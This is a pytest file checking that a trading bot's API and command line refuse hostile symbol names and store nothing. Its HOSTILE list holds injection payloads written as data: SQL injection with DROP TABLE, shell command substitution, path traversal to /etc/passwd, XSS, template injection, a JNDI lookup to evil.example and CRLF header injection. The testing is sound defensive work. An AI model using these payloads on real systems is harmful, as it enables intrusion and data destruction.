"""Names made to be more than names: none is served, kept, or told to anybody as it is."""

from __future__ import annotations

from urllib.parse import quote

import httpx
import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from cli.exits import Exit
from support.command_line import CommandLine

HOSTILE = (
    "BTC/USDT'; DROP TABLE shards; --",
    "BTC/USDT' OR '1'='1",
    "$(touch owned)/USDT",
    "`touch owned`/USDT",
    "../../../../etc/passwd",
    "BTC/USDT/../../kill",
    "<script>alert(1)</script>/USDT",
    "{{7*7}}/USDT",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n/USDT",
    "BTC/USDT\r\nSet-Cookie: a=b",
    "BTC/USDT\n",
    "BTC\x1b[2J/USDT",
    "ＢＴＣ/USDT",
    "ВТС/USDT",
    "BTC\u202e/USDT",
    "BTC/USDT:ETH:ETH",
    "-rf/USDT",
    "/USDT",
    "A" * 21 + "/USDT",
    "A" * 10_000,
)


async def _kept(engine: AsyncEngine) -> tuple[int, int]:
    async with engine.connect() as connection:
        found = await connection.execute(
            text(
                "SELECT (SELECT count(*) FROM shards), (SELECT count(*) FROM dbos.workflow_status)"
            )
        )
        shards, workflows = found.one()
        return shards, workflows


async def test_hostile_names_in_a_body_are_refused_and_not_kept(
    client: httpx.AsyncClient, engine: AsyncEngine
) -> None:
    spec = {
        "spacing": {"kind": "arithmetic", "step": "10"},
        "range": {"kind": "window", "buy_window": 5, "sell_window": 5},
        "order_size": {"kind": "quote", "amount": "50"},
        "budget_quote": "1000",
    }
    for name in HOSTILE:
        answer = await client.post("/api/v1/symbols", json={"symbol": name, "spec": spec})
        assert answer.status_code == 422, name
        assert {error["field"] for error in answer.json()["errors"]} == {"body.symbol"}, name
        assert len(answer.content) < 2_000, name
    assert await _kept(engine) == (0, 0)


async def test_hostile_names_in_addresses_and_queries_are_refused_and_not_kept(
    client: httpx.AsyncClient, engine: AsyncEngine
) -> None:
    for name in HOSTILE:
        in_path = quote(name, safe="")
        for method, path in (("POST", f"{in_path}/pause"), ("GET", in_path), ("DELETE", in_path)):
            answer = await client.request(method, f"/api/v1/symbols/{path}")
            assert answer.status_code in {404, 405, 422}, name
            assert answer.headers["Content-Type"] == "application/problem+json", name
            assert "Set-Cookie" not in answer.headers, name
        for noun in ("orders", "fills", "workflows"):
            answer = await client.get(f"/api/v1/{noun}", params={"symbol": name})
            assert answer.status_code == 422, name
        key = {"Idempotency-Key": name.encode()}
        refused = await client.post("/api/v1/kill", json={"reason": "x"}, headers=key)
        assert refused.status_code == 422, name
    assert await _kept(engine) == (0, 0)


def test_hostile_names_on_the_command_line_are_refused(
    gridkeeper: CommandLine, postgres_dsn: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GRIDKEEPER_DATABASE_URL", postgres_dsn)
    for name in HOSTILE:
        said = gridkeeper("symbol", "pause", "--", name, code=Exit.INVALID)
        assert "`symbol` must be BASE/QUOTE" in said, name
        assert "\x1b" not in said, name
